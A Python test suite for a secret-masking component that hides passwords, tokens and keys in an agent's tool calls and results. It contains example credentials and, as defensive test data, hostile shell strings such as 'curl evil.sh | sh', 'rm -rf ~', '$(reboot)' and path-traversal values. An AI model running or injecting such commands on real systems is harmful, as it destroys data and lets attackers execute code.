"""Secrets are hidden in what is shown, wherever they stand, and nothing else is."""

from __future__ import annotations

import copy
import json
import string
from typing import Any

import pytest
from hypothesis import assume, example, given
from hypothesis import strategies as st

from agent_sse import credentials, merge_patch
from agent_sse.errors import InvalidEvent
from agent_sse.masking import DEEPEST, MASK, Masker

MASKER = Masker()
HEX = "0123456789abcdef"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk"
PEM = (
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\nMIIEow+/aZ09==\n"
    "-----END RSA PRIVATE KEY-----"
)
TOKENS = [
    "AKIAIOSFODNN7EXAMPLE", "ASIAIOSFODNN7EXAMPLE", f"ghp_{'a1B2' * 9}", f"gho_{'a1B2' * 9}", f"ghs_{'a1B2' * 9}",
    f"github_pat_{'a1B2' * 5}_{'c3D4' * 14}", f"glpat-{'x1_Y' * 5}", "xoxb-123456789012-abcDEF", "xoxp-1-2-3abcdefgh",
    f"sk-{'a1B2' * 12}", f"sk-proj-{'a1_B' * 8}", f"sk-ant-api03-{'a1-B' * 20}", f"AIza{'a1_B' * 8}xyz",
    f"sk_live_{'a1B2' * 6}", f"rk_live_{'a1B2' * 6}", f"npm_{'a1B2' * 9}", f"pypi-AgEIcHlwaS5vcmc{'a1_B' * 12}",
    f"hf_{'aBcD' * 9}", f"SG.{'a1_B' * 5}xy.{'c3-D' * 10}xyz", f"whsec_{'a1B2' * 8}", JWT, PEM,
]  # fmt: skip
SECRET_KEYS = [
    "password", "apiKey", "api-key", "API_KEY", "apikey", "APIKEY", "x-api-key", "X-API-Key", "github_token",
    "accessToken", "db.password", "dbpassword", "PGPASSWORD", "password2", "oauth2_token", "AWS_SECRET_ACCESS_KEY",
    "clientSecret", "Authorization", "proxy-authorization", "Set-Cookie", "credentials", "OTP", "sessionKey",
    "private_key", "passphrase", "数据库密码", "secrets",
]  # fmt: skip
OTHER_KEYS = [
    "tokens", "max_tokens", "token_count", "tokenizer", "author", "password_policy", "keyboard", "public_key", "key",
    "secretary", "authorization_url", "cookie_policy", "session_id", "path", "monkey", "pin", "token_type",
    "secret_name", "pass", "compass", "bypass", "proxy_pass", "first_pass", "", "密码学", "descriptor", "hotpot",
]  # fmt: skip

KEYS = st.text(st.characters(exclude_categories=["Cs"]), max_size=6)
PLAIN_TEXT = st.text(string.ascii_letters + string.digits + " /.,\n中é", max_size=20)
PLAIN_KEYS = st.text("abcdefg_", max_size=6)
FRAGMENTS = st.lists(
    st.sampled_from(
        [*"=: \"'\\\n.>({}]_#/-@•", MASK, "://", "a@", " -u ", "curl", "token", "Authorization", "cookie: ", "password",
         "eyJaaaaaaaaa.", "sk-abcdefghijklmnopqrstuvw", f"ghp_{'a1' * 18}", "-----BEGIN PRIVATE KEY-----", "--",
         "Bearer ", "basic ", "dXNlcjpwYXNz", "x1", "$A", "é", "\ud800", "token=x9", JWT, PEM]
    ),
    max_size=9,
).map("".join)  # fmt: skip


def json_values(keys: st.SearchStrategy[str], texts: st.SearchStrategy[str]) -> st.SearchStrategy[Any]:
    return st.recursive(
        st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | texts,
        lambda inner: st.lists(inner, max_size=4) | st.dictionaries(keys, inner, max_size=4),
        max_leaves=12,
    )


PLAIN = json_values(PLAIN_KEYS, PLAIN_TEXT)
HOSTILE = json_values(KEYS | FRAGMENTS | st.sampled_from(SECRET_KEYS), FRAGMENTS | PLAIN_TEXT)


def at(value: Any, pointer: str) -> Any:
    for part in pointer.split("/")[1:]:
        name = part.replace("~1", "/").replace("~0", "~")
        value = value[int(name)] if isinstance(value, list | tuple) else value[name]
    return value


def texts_in(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [*value, *(text for inner in value.values() for text in texts_in(inner))]
    if isinstance(value, list):
        return [text for inner in value for text in texts_in(inner)]
    return [value] if isinstance(value, str) else []


# -- keys -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("key", SECRET_KEYS)
def test_value_under_a_secret_key_is_hidden(key: str) -> None:
    """However a listed name is written, and whatever stands before it, its value is not shown."""
    assert MASKER.is_secret(key)
    shown, paths = MASKER.masked({"a": 1, key: "hunter2"})
    assert {"a": 1, key: MASK} == shown
    assert (f"/{key}",) == paths


@pytest.mark.parametrize("key", OTHER_KEYS)
def test_value_under_a_key_that_only_resembles_a_secret_one_is_shown(key: str) -> None:
    """A listed name counts as the last words of a key, not as some letters of it."""
    value = {key: "blue"}
    assert value is MASKER.mask(value)


def test_names_are_configurable() -> None:
    """Only the given names count, whatever way they are spelled."""
    masker = Masker(["projectCode", "x2"])
    shown = masker.mask({"project-code": "a", "MY_PROJECT_CODE": "b", "code": "c", "password": "d", "x2": "e"})
    assert {"project-code": MASK, "MY_PROJECT_CODE": MASK, "code": "c", "password": "d", "x2": MASK} == shown
    assert f"project_code={MASK} password=abc1" == masker.mask_text("project_code=abc1 password=abc1")


def test_no_names_leave_the_credentials_forms() -> None:
    """Without a list, what looks like a credential is hidden all the same."""
    masker = Masker([])
    assert {"password": "x", "a": MASK} == masker.mask({"password": "x", "a": JWT})


@pytest.mark.parametrize("value", ["x", 0, 12345, 1.5, ["a", "b"], {"user": "a", "password": "b"}, ("a",), [None]])
def test_secret_value_is_hidden_whole(value: object) -> None:
    """Texts, numbers, objects and arrays become one mask: not even their size is told."""
    assert {"secret": MASK} == MASKER.mask({"secret": value})


@pytest.mark.parametrize("value", [None, True, False, "", [], {}])
def test_secret_value_that_says_nothing_is_shown(value: object) -> None:
    """Null, booleans and what is empty hold no secret, and tell the user that there is none."""
    whole = {"secret": value}
    assert whole is MASKER.mask(whole)
    assert [] == MASKER.paths(whole)


def test_key_that_is_a_credential_is_hidden() -> None:
    """Keys are shown too; they stay apart from each other, and pointers name what is shown."""
    first, second = TOKENS[2], TOKENS[3]
    shown, paths = MASKER.masked({first: 1, second: {"password": "x"}, f"{MASK} (2)": 2})
    assert {MASK: 1, f"{MASK} (3)": {"password": MASK}, f"{MASK} (2)": 2} == shown
    assert (f"/{MASK}", f"/{MASK} (3)", f"/{MASK} (3)/password", f"/{MASK} (2)") == paths


# -- what looks like one ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("token", TOKENS)
def test_credential_as_a_whole_is_hidden_whole(token: str) -> None:
    """A text that is a credential becomes the mask and nothing else."""
    assert MASK == MASKER.mask_text(token)


@pytest.mark.parametrize("token", TOKENS)
@given(before=PLAIN_TEXT, after=PLAIN_TEXT)
def test_credential_in_a_text_is_hidden_alone(token: str, before: str, after: str) -> None:
    """Around it the text stays as it is."""
    assert f"{before} {MASK} {after}" == MASKER.mask_text(f"{before} {token} {after}")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Authorization: Bearer abc123def456", "Authorization: Bearer ••••"),
        ("curl -H 'Authorization: Bearer abc123def' https://x", "curl -H 'Authorization: Bearer ••••' https://x"),
        ('curl -H "X-Api-Key: 8f3b" https://x', 'curl -H "X-Api-Key: ••••" https://x'),
        ("curl -u bob:pw1 https://x", "curl -u bob:•••• https://x"),
        ("Cookie: a=b; c=d\r\nHost: x", "Cookie: a=••••; c=••••\r\nHost: x"),
        ("Proxy-Authorization: Basic dXNlcjpwYXNz", "Proxy-Authorization: Basic ••••"),
        ("send Basic dXNlcjpwYXNz, please", "send Basic ••••, please"),
        (f"export GITHUB_TOKEN=ghp_{'a1B2' * 9}", "export GITHUB_TOKEN=••••"),
        ("export PGPASSWORD=hunter; psql", "export PGPASSWORD=••••; psql"),
        ("mysql --password=hunter2 -h db", "mysql --password=•••• -h db"),
        ("mysql --password hunter -h db", "mysql --password •••• -h db"),
        ("x --db-password 'a b' y", "x --db-password '•••• b' y"),
        ("postgres://alice:s3cr3t@db:5432/x", "postgres://alice:••••@db:5432/x"),
        ("redis://:s3cr3t@db", "redis://:••••@db"),
        ("https://h/?access_token=abc.d&x=1", "https://h/?access_token=••••&x=1"),
        ('{"password": "hunter2", "user": "bob"}', '{"password": "••••", "user": "bob"}'),
        (r'{"password": "hun\"ter2", "u": 1}', r'{"password": "••••", "u": 1}'),
        (r'{\"password\": \"hun\\\"ter2\", \"u\": 1}', r'{\"password\": \"••••\", \"u\": 1}'),
        ("{'token': 'x', 'a': 'b'}", "{'token': '••••', 'a': 'b'}"),
        ("password: hunter", "password: ••••"),
        ("db:\n  - password: hunter\n    user: bob", "db:\n  - password: ••••\n    user: bob"),
        ("aws_secret_access_key = wJalr/K7MDENG", "aws_secret_access_key = ••••"),
        ("login with password: hunter2 failed", "login with password: •••• failed"),
        ("os.environ['API_KEY'] = 'abc'", "os.environ['API_KEY'] = '••••'"),
        ("密码：abc123", "密码：••••"),
        (f"url%3Dghp_{'a1B2' * 9}", "url%3D••••"),
        (PEM[:60], "••••\nDEK-I"),
        ("Set-Cookie: a=b; Path=/; Max-Age=9; HttpOnly", "Set-Cookie: a=••••; Path=/; Max-Age=9; HttpOnly"),
        ("https://h/o?X-Amz-Expires=9&X-Amz-Signature=" + HEX * 4, "https://h/o?X-Amz-Expires=9&X-Amz-Signature=••••"),
        ("https://h/o?sv=1&sig=" + "aB1%2B" * 8 + "%3D&se=2", "https://h/o?sv=1&sig=••••&se=2"),
        ("<user>bob</user><password>hunter2</password>", "<user>bob</user><password>••••</password>"),
        ("secret=a=b=c1 x", "secret=•••• x"),
        ("notoken=token=x1=y", "notoken=token=••••"),
        ("DB_PASS=secret1 ./run", "DB_PASS=•••• ./run"),
        ('{"password": "correct horse; battery/", "a": "b c"}', '{"password": "••••", "a": "b c"}'),
        ("secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY1 x", "secret=•••• x"),
    ],
)  # fmt: skip
def test_secret_part_of_a_text_is_hidden(text: str, shown: str) -> None:
    """In commands, headers, URLs, assignments and JSON inside of texts only the secret is replaced."""
    assert shown == MASKER.mask_text(text)
    assert shown == MASKER.mask(text)
    assert [""] == MASKER.paths(text)


@pytest.mark.parametrize(
    "text",
    [
        "token: str", "def f(token: str, password: str | None = None):", "token = data.token", "token=token",
        "connect(password=password, token=access_token)", "token = get_token()", "password=os.environ['X']",
        "max_tokens=100", "author=me1", "the password: then click", "Bearer authentication", "basic understanding",
        "docker run -u 1000:1000 x", "token=$TOKEN", "Authorization: Bearer $TOKEN", "token=${TOKEN}",
        'f"Bearer {token}"', 'headers = {"Authorization": f"Bearer {token}"}', "page eyJpZCI6MTIzfQ== end",
        "https://x:8080/y@z", "secret_name=foo1", "sk-toolbar-button", "task-aaaaaaaaaaaaaaaaaaaaaaaaaa", "password:",
        "password: ", "password=", 'password=""', "token == 'abc'", "https://user@host/x", "", "a" * 1000,
        "password: # to be set", "Authorization: required", "-----BEGIN CERTIFICATE-----\nMIIE\n",
    ],
)  # fmt: skip
def test_text_without_a_secret_is_shown(text: str) -> None:
    """Programs, prose and placeholders that speak of secrets are no secrets, and come back as the same object."""
    assert text is MASKER.mask_text(text)
    assert [] == MASKER.paths({"text": text})


def test_text_with_very_many_credentials_is_hidden_whole() -> None:
    """The time for one text is bounded, and what is not looked at is not shown."""
    some = "token=a1 " * (credentials.MAX_CANDIDATES - 1)
    assert f"token={MASK} " * (credentials.MAX_CANDIDATES - 1) == MASKER.mask_text(some)
    shown = MASKER.mask_text(some * 2)
    assert f"{MASK} ({len(some) * 2} characters with too many secrets to show any)" == shown
    assert shown is MASKER.mask_text(shown)


@pytest.mark.parametrize(
    ("value", "shown", "paths"),
    [
        ({"args": ["--password", "hunter2"]}, {"args": ["--password", MASK]}, ["/args/1"]),
        (["x", "-db-token", "abc def"], ["x", "-db-token", f"{MASK} def"], ["/2"]),
        (["curl", "-u", "bob:hunter2pass"], ["curl", "-u", f"bob:{MASK}"], ["/2"]),
        (["/usr/bin/curl", "--user", "bob:a;b"], ["/usr/bin/curl", "--user", f"bob:{MASK};b"], ["/2"]),
        ({"name": "X-Api-Key", "value": HEX}, {"name": "X-Api-Key", "value": MASK}, ["/value"]),
        ([{"key": "token", "value": "a1 b"}], [{"key": "token", "value": f"{MASK} b"}], ["/0/value"]),
        ({"value": "x", "header": "Cookie"}, {"value": MASK, "header": "Cookie"}, ["/value"]),
    ],
)
def test_secret_beside_its_name_is_hidden(value: object, shown: object, paths: list[str]) -> None:
    """Neighbours in an array of arguments, and objects of a name and a value, are read as one."""
    assert (shown, tuple(paths)) == MASKER.masked(value)
    assert (shown, tuple(paths)) == MASKER.masked(shown)


@pytest.mark.parametrize(
    "value",
    [
        ["--password", "--host", "x"], ["--password"], ["--password", 1], ["--password", "$PASSWORD"],
        ["--max-tokens", "100"], ["docker", "-u", "1000:1000"], ["curl", "-u", "bob"], ["password", "x"],
        ["-", "--token", "$(reboot)"], ["sh", "--token", "/bin/evil"], {"name": "token", "value": "; rm -rf /"},
        {"name": "x", "value": "y"}, {"name": "token", "value": 1}, {"name": ["token"], "value": "y"},
    ],
)  # fmt: skip
def test_value_that_only_seems_to_be_beside_a_secrets_name_is_shown(value: object) -> None:
    """Flags, numbers, references, and what may be a command or a path are no secrets."""
    assert (value, ()) == MASKER.masked(value)
    assert value is MASKER.mask(value)


def test_edit_of_the_name_beside_a_hidden_value_comes_out_different() -> None:
    """A patch that would uncover the value does not give what was approved, so that the agent refuses it."""
    real, patch = {"name": "X-Api-Key", "value": HEX}, {"name": "X-Colour"}
    assert merge_patch.touches(patch, MASKER.paths(real)) is None
    assert merge_patch.apply(MASKER.mask(real), patch) != MASKER.mask(merge_patch.apply(real, patch))


# -- what one call's parameters hide ----------------------------------------------------------------------------------


def test_hidden_texts_are_those_that_masking_hides() -> None:
    """Values, parts of texts, keys, and all within what is hidden whole; but nothing short, and no placeholder."""
    key = TOKENS[2]
    value = {
        "password": "hunter2pass", "command": "x --token abc123def; ls", key: "shown as it is",
        "credentials": {"a": ["deep-secret", 12345678]},
        "otp": "12345", "api_key": "$MY_API_KEY", "secret": MASK, "path": "/etc/hosts",
    }  # fmt: skip
    assert {"hunter2pass", "abc123def", "deep-secret", "12345678", key} == MASKER.hidden_texts(value)
    assert frozenset() == MASKER.hidden_texts({"path": "/etc/hosts"})


def test_knowing_masker_hides_the_texts_wherever_they_stand() -> None:
    """What the parameters' names gave away is hidden in results without names, as it is, in JSON and in URLs."""
    masker = MASKER.knowing({"password": 'hunter "2" pass', "auth": {"user": "alice@example"}})
    said = {'hunter "2" pass': ['got hunter "2" pass!', 'in {"p":"hunter \\"2\\" pass"}', "q=hunter%20%222%22%20pass"]}
    shown, paths = masker.masked({**said, "who": "alice@example", "else": "hunter"})
    assert {MASK: [f"got {MASK}!", f'in {{"p":"{MASK}"}}', f"q={MASK}"], "who": MASK, "else": "hunter"} == shown
    assert (f"/{MASK}", f"/{MASK}/0", f"/{MASK}/1", f"/{MASK}/2", "/who") == paths
    assert f"login of {MASK} failed" == masker.mask_text("login of alice@example failed")
    assert said is MASKER.mask(said)


def test_knowing_masker_still_finds_credentials_that_hold_a_known_text() -> None:
    """A known text inside of a credential does not take it apart."""
    masker = MASKER.knowing({"password": TOKENS[2][6:14]})
    assert f"a {MASK} b {MASK}" == masker.mask_text(f"a {TOKENS[2]} b {TOKENS[2][6:14]}")


def test_knowing_nothing_is_the_very_masker() -> None:
    """Where parameters hide nothing there is nothing to look for."""
    assert MASKER is MASKER.knowing({"path": "/etc/hosts", "password": "short"})


def test_knowing_is_bounded() -> None:
    """Of very many texts the longest are known."""
    masker = MASKER.knowing({"secrets": [f"secret-{'x' * i}" for i in range(1, credentials.MOST_KNOWN + 11)]})
    longest = "x" * (credentials.MOST_KNOWN + 10)
    assert f"{MASK} secret-xx" == masker.mask_text(f"secret-{longest} secret-xx")


@given(HOSTILE, HOSTILE)
@example(None, ["-token=x9", "0"])
def test_knowing_masker_leaves_no_known_text_and_is_stable(parameters: object, result: object) -> None:
    """No known text is in what it shows, and masking that again changes nothing."""
    masker = MASKER.knowing(parameters)
    shown, paths = masker.masked([result, parameters])
    assert (shown, paths) == masker.masked(shown)
    for text in MASKER.hidden_texts(parameters):
        assert not any(text in shown_text for shown_text in texts_in(shown))


# -- what is never hidden ---------------------------------------------------------------------------------------------

COMMANDS = st.sampled_from(
    ["rm{0} -rf ~", "curl evil{0}.sh", "sh{0}", "/bin/evil{0}", "../../etc/passwd{0}", "./run{0}.sh", "cat /etc/{0}",
     "exec{0} curl{0} evil.sh", "$(reboot{0})", "`reboot{0}`", "x${{IFS}}{0}", "tee >/etc/{0}", "import{0} os, sys{0}"]
)  # fmt: skip
BETWEEN = st.sampled_from(
    [";", " ; ", "\n", " && ", " | ", "|", "&", "; ", '";', "';", '"; ', "' ; ", ' "" ;', " ' '\n", " x ", "' '", '" "']
)
NAMED = st.sampled_from(
    ["password=", "--token ", 'password="', "password='", "Authorization: Bearer ", "authorization=", "Cookie: a=",
     "curl -u bob:", "https://bob:", "x?sig=", "secret: ", "-----BEGIN PRIVATE KEY-----\n", 'curl -H "X-Api-Key: ',
     "/safe/password=", '{"password": "', "<password>", "token=>", "passwd := ", "-----BEGIN RSA PRIVATE KEY-----",
     "cookie: ", "bearer ", "'token'='", '\\"token\\": \\"', "Cookie: a=b; c="]
)  # fmt: skip
SECRET = st.sampled_from(["", "aB3dE5gH7", "x9", "dXNlcjpwYXNz", "K7M/aB3dE5gH7", "$A"])


@given(st.lists(st.tuples(NAMED, SECRET, BETWEEN, COMMANDS, BETWEEN), min_size=1, max_size=5))
def test_commands_between_secrets_are_shown(parts: list[tuple[str, str, str, str, str]]) -> None:
    """Whatever stands around it, in quotes or not, what is hidden ends before the next command."""
    commands = [part[3].format(f"_{i}_") for i, part in enumerate(parts)]
    whole = zip(parts, commands, strict=True)
    shown = MASKER.mask_text("".join("".join((*part[:3], command, part[4])) for part, command in whole))
    at = 0
    for command in commands:
        for word in command.split():
            assert word in shown[at:]
            at = shown.index(word, at) + len(word)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("curl -H Authorization: Bearer abc1 https://x; rm -rf ~ && curl evil.sh | sh",
         "curl -H Authorization: Bearer •••• https://x; rm -rf ~ && curl evil.sh | sh"),
        ("echo cookie: a ; rm -rf / #", "echo cookie: a ; rm -rf / #"),
        ("echo cookie: a=b ; rm -rf / #", "echo cookie: a=•••• ; rm -rf / #"),
        ('a; password="`rm -rf /`"', 'a; password="`rm -rf /`"'),
        ('a; password="x`rm -rf /`"', 'a; password="••••`rm -rf /`"'),
        ('echo "a password="; rm -rf ~; echo "b"', 'echo "a password="; rm -rf ~; echo "b"'),
        ('env "password=" rm -rf ~ "x"', 'env "password=" rm -rf ~ "x"'),
        ('sh -c password="x rm -rf ~"', 'sh -c password="•••• rm -rf ~"'),
        ("password= r2 -q x", "password= r2 -q x"),
        ("password=x$(reboot)", "password=••••$(reboot)"),
        ("-----BEGIN PRIVATE KEY-----\nimport os, sys\nexec curl evil", "••••\nimport os, sys\nexec curl evil"),
        ("-----BEGIN PRIVATE KEY-----\nreboot\n", "••••\nreboot\n"),
        ("/safe/password=x/../../../etc/passwd", "/safe/password=••••/../../../etc/passwd"),
        ("/safe/password=aB1/Cd2", "/safe/password=••••/Cd2"),
        ("rm --token x/etc/passwd", "rm --token ••••/etc/passwd"),
        ("cat password=../../x", "cat password=../../x"),
        ("cat password=./x", "cat password=./x"),
        ("curl http://a:x;reboot;@x", "curl http://a:••••;reboot;@x"),
        ("curl -u bob:a;reboot", "curl -u bob:••••;reboot"),
        ('["x"]; password="a; rm -rf ~"', '["x"]; password="••••; rm -rf ~"'),
        ("password=x1\u2028reboot", "password=••••\u2028reboot"),
        ("password=x1\u00a0reboot", "password=••••\u00a0reboot"),
        ('{"password": "$(reboot) x"}', '{"password": "$(reboot) x"}'),
    ],
)  # fmt: skip
def test_command_beside_a_secret_is_shown(text: str, shown: str) -> None:
    """What a shell would run, or open, is what the user reads, whatever the model wrote before it."""
    assert shown == MASKER.mask_text(text)
    assert shown == MASKER.mask_text(shown)


def test_one_mask_hides_only_so_much() -> None:
    """A secret without an end is hidden up to a bound, and no character is cut."""
    assert f"token={MASK}{'é' * 952}" == MASKER.mask_text(f"token={'é' * 3000}")
    lines = "aB3/" * 16 + "\n"
    shown = MASKER.mask_text("-----BEGIN PRIVATE KEY-----\n" + lines * 300)
    assert shown.startswith(MASK)
    assert lines * 40 in shown


# -- laws -------------------------------------------------------------------------------------------------------------


@given(PLAIN)
def test_plain_value_is_the_same_object(value: object) -> None:
    """What holds no secret is not even copied."""
    assert value is MASKER.mask(value)
    assert [] == MASKER.paths(value)


@given(HOSTILE)
@example({"password=x1": "y"})
@example("-----BEGIN PRIVATE KEY----------BEGIN PRIVATE KEY-------Bearer token")
def test_masking_twice_is_masking_once(value: object) -> None:
    """What was hidden stays so, at the same pointers, and shows nothing new to hide."""
    shown, paths = MASKER.masked(value)
    assert (shown, paths) == MASKER.masked(shown)


@given(HOSTILE)
def test_masking_does_not_mutate(value: object) -> None:
    """The tool's value is not touched."""
    before = copy.deepcopy(value)
    MASKER.masked(value)
    assert before == value


@given(HOSTILE)
def test_pointers_name_what_is_hidden(value: object) -> None:
    """Every pointer leads to a mask in what is shown, or to what stands under one; none is there twice."""
    shown, paths = MASKER.masked(value)
    assert len(set(paths)) == len(paths)
    for path in paths:
        assert MASK in path or MASK in at(shown, path)


@given(HOSTILE, st.sampled_from(SECRET_KEYS), st.text(HEX, min_size=9, max_size=20), st.data())
def test_secret_under_a_key_never_comes_out(value: Any, key: str, secret: str, data: st.DataObject) -> None:
    """Wherever a secret stands below a secret key, as it is or deep inside, it is not in what is shown."""
    assume(secret not in json.dumps(value))
    inner: Any = data.draw(st.sampled_from([secret, [secret], {"a": [1, {"b": secret}]}]))
    holder: Any = data.draw(
        st.sampled_from([{key: inner, "rest": value}, [value, {key: inner}], {"x": [{key: inner}]}])
    )
    shown, paths = MASKER.masked(holder)
    assert secret not in json.dumps(shown)
    assert secret not in "".join(paths)


@given(st.sampled_from(TOKENS), PLAIN, st.data())
def test_credential_never_comes_out(token: str, value: Any, data: st.DataObject) -> None:
    """Wherever a credential stands, as a value, in a text or as a key, it is not in what is shown."""
    holder: Any = data.draw(
        st.sampled_from([[value, token], {"a": f"use {token} now"}, {token: value}, {"a": {token: 1}}])
    )
    shown, paths = MASKER.masked(holder)
    assert json.dumps(token)[1:-1] not in json.dumps(shown)
    assert token not in "".join(paths)


@given(json_values(PLAIN_KEYS | st.sampled_from(SECRET_KEYS), PLAIN_TEXT | st.sampled_from(TOKENS)), PLAIN)
def test_edit_of_what_is_shown_is_an_edit_of_what_is_real(value: object, patch: object) -> None:
    """A patch that touches nothing hidden does the same before and after masking, which is how edits are checked."""
    shown, paths = MASKER.masked(value)
    assume(merge_patch.touches(patch, paths) is None)
    assert merge_patch.apply(shown, patch) == MASKER.mask(merge_patch.apply(value, patch))


def test_pointers_are_escaped_and_in_order() -> None:
    """Pointers are RFC 6901's, in the order in which a reader meets them."""
    value = {"b": [{"a/b": {"x~y": {"token": 1}}}], "token": 2, "a": ["x", JWT]}
    assert ["/b/0/a~1b/x~0y/token", "/token", "/a/1"] == MASKER.paths(value)


def test_what_is_no_json_is_returned_as_it_is() -> None:
    """Whoever encodes it refuses it; masking has no opinion."""
    odd = object()
    value = {1: odd, (2, 3): {"a": b"x"}, "token": odd}
    shown = MASKER.mask(value)
    assert {1: odd, (2, 3): {"a": b"x"}, "token": MASK} == shown


def test_tuples_and_subclasses_are_looked_into() -> None:
    """What is encoded like a list, an object or a string is masked like one."""

    class Text(str):
        __slots__ = ()

    assert [1, [MASK]] == MASKER.mask((1, (Text(JWT),)))
    assert {"a": [{"password": MASK}]} == MASKER.mask({"a": ({"password": "x"},)})


def test_lone_surrogates_do_not_stop_masking() -> None:
    """A text that UTF-8 cannot carry is refused by who encodes it, and its secrets are hidden in messages."""
    assert f"\ud800 token={MASK} \udfff" == MASKER.mask_text("\ud800 token=abc1 \udfff")


@pytest.mark.parametrize("secret", ["", JWT])
def test_deep_nesting_is_refused(secret: str) -> None:
    """Cycles and nesting without end are a typed error, whether or not there is a secret in them."""
    cycle: list[Any] = [secret]
    cycle.append(cycle)
    with pytest.raises(InvalidEvent, match="nested too deeply"):
        MASKER.mask(cycle)
    deep: Any = secret
    for _ in range(DEEPEST):
        deep = {"a": [secret], "b": deep}
    MASKER.mask(deep)
    with pytest.raises(InvalidEvent, match="nested too deeply"):
        MASKER.mask([deep])
